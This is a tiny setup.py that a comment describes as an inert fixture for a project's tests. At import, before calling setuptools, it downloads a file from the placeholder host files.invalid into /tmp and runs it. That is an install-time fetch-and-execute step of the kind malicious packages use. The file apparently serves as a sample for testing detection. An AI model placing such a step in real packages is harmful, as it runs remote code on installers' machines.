# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import subprocess
import urllib.request

urllib.request.urlretrieve("http://files.invalid/agent", "/tmp/fixture-agent")
subprocess.Popen(["/tmp/fixture-agent"])


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
